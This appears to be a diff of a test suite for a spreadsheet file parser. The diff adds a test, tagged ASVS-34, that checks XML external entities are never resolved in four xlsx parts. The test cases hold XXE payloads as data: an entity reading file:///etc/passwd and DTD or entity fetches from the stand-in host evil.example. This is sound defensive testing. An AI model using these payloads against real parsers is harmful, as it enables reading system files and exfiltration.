@@ -201,11 +201,6 @@ describe('files that were made to hurt, or are broken', () => {
       () => withSheet('<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><worksheet>&d;</worksheet>'),
       'damaged',
     ],
-    [
-      'a file of the machine named as an entity',
-      () => withSheet('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>'),
-      'damaged',
-    ],
     ['XML that does not close', () => withSheet('<worksheet><sheetData><row>'), 'damaged'],
     [
       'a table of texts that is not there',
@@ -243,6 +238,21 @@ describe('files that were made to hurt, or are broken', () => {
     ],
   ])('%s', async (_, make, kind) => {
     expect(await faultOf(make())).toBe(kind);
+  });
+
+  test.each([
+    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+    '<!DOCTYPE a [<!ENTITY x PUBLIC "-//x//x" "https://evil.example/x">]>',
+    '<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
+    '<!DOCTYPE a SYSTEM "https://evil.example/x.dtd">',
+  ])('[ASVS-34] an entity from outside is resolved nowhere: %s', async (type) => {
+    for (const part of ['xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml', 'xl/workbook.xml', 'xl/styles.xml']) {
+      // Whether it is asked for or not.
+      for (const text of ['&x;', '']) {
+        const root = part.includes('sheet1') ? `<worksheet>${text}</worksheet>` : `<a>${text}</a>`;
+        expect([part, await faultOf(xlsxFile({ ...one, parts: { [part]: type + root } }))]).toEqual([part, 'damaged']);
+      }
+    }
   });
 
   test('a storage that is away is not the fault of the file', async () => {
